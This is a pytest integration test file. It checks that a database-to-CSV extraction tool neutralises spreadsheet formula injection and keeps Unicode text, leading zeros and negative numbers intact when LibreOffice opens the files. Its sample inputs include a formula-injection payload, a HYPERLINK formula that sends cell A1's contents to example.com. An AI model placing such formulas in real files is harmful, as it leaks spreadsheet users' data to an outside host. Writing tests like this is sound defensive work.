"""A sample as a spreadsheet opens it that knows nothing of who wrote it."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.integration.extractions import serve_schema
from tests.integration.spreadsheets import Sheet, needs_libreoffice, open_in_spreadsheet

pytestmark = needs_libreoffice

#: What a spreadsheet would calculate.
FORMULAS = (
    '=HYPERLINK("http://example.com/?leak="&A1,"look")',
    "=1+2",
    "+1+2",
    "-1-2",
    "@SUM(A1:A3)",
    "\t=1+2",
    "\r=1+2",
)
#: What is text and nothing else.
TEXTS = (
    "שלום, מה שלומך?",
    "😀 café",
    'say "hi", then; go',
    "first line\nsecond line",
    "it's '=1+2'",
    "\n=1+2",
    " =1+2",
)
#: What looks like a number, and is one only if the person lets it.
DIGITS = ("007", "0501234567", "1e5", "-5", "+972501234567", "31/12")
NOTES = FORMULAS + TEXTS + DIGITS
AMOUNTS = (-5, 0, "-0.25", 1234567)


@pytest.fixture(scope="module")
def sheets(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Sheet, Sheet]]:
    """Yield a sample as it is opened, and one that was written with --keep-formulas."""
    folder = tmp_path_factory.mktemp("samples")
    with serve_schema(folder / "guarded") as schema:
        schema.run(
            "CREATE TABLE app.notes (KEPT VARCHAR2(100), NOTE VARCHAR2(100), AMOUNT NUMBER, "
            "SPAN INTERVAL DAY TO SECOND, FAR BINARY_DOUBLE, DAY DATE, CODE CHAR(9), "
            '"=1+2" VARCHAR2(9))'
        )
        for place, note in enumerate(NOTES):
            schema.run(
                "INSERT INTO app.notes VALUES (:note, :note, TO_NUMBER(:amount), "
                "INTERVAL '-2 03:04:05' DAY TO SECOND, :double, DATE '2024-01-31', '=A1', NULL)",
                note=note,
                double=float("-inf"),
                amount=str(AMOUNTS[place % len(AMOUNTS)]),
            )
        guarded = schema.file(schema.extract()["NOTES"], "csv")
        schema.folder = folder / "unguarded"
        unguarded = schema.file(schema.extract(keeps_formulas=True)["NOTES"], "csv")
    both = []
    for name, file in (("guarded", guarded), ("unguarded", unguarded)):
        both.append(file.rename(folder / f"{name}.csv"))
    first, second = open_in_spreadsheet(both, folder, text_columns=(1,))
    yield first, second


@pytest.fixture
def sheet(sheets: tuple[Sheet, Sheet]) -> Sheet:
    return sheets[0]


def formulas(sheet: Sheet) -> list[tuple[str, object]]:
    """Return the cells that a spreadsheet calculates, with their columns."""
    found = []
    for header, cells in sheet.items():
        for cell in cells:
            if cell.is_formula:
                found.append((header, cell.value))
    return found


def values(sheet: Sheet, header: str, wanted: tuple[str, ...]) -> list[object]:
    """Return what became of some notes in a column."""
    found = []
    for note, cell in zip(NOTES, sheet[header][1:], strict=True):
        if note in wanted:
            found.append(cell.value)
    return found


def test_no_cell_is_a_formula(sheet: Sheet) -> None:
    assert formulas(sheet) == []


def test_without_the_guard_texts_are_formulas(sheets: tuple[Sheet, Sheet]) -> None:
    found = formulas(sheets[1])
    assert ("NOTE", "=1+2") in found
    assert ("CODE", "=A1") in found


def test_a_guarded_text_is_shown_with_its_guard(sheet: Sheet) -> None:
    assert values(sheet, "NOTE", FORMULAS[:5]) == ["'" + text for text in FORMULAS[:5]]


def test_hebrew_emoji_quotes_and_line_breaks_are_as_they_were(sheet: Sheet) -> None:
    assert values(sheet, "NOTE", TEXTS) == list(TEXTS)


def test_negative_numbers_are_numbers(sheet: Sheet) -> None:
    amounts = [cell.value for cell in sheet["AMOUNT"][1:5]]
    assert amounts == [-5, 0, -0.25, 1234567]


def test_leading_zeros_stay_in_a_column_that_is_opened_as_text(sheet: Sheet) -> None:
    assert values(sheet, "KEPT", DIGITS) == list(DIGITS)


def test_a_text_of_digits_becomes_a_number_in_a_column_that_is_not(sheet: Sheet) -> None:
    assert values(sheet, "NOTE", ("007", "-5")) == [7, -5]
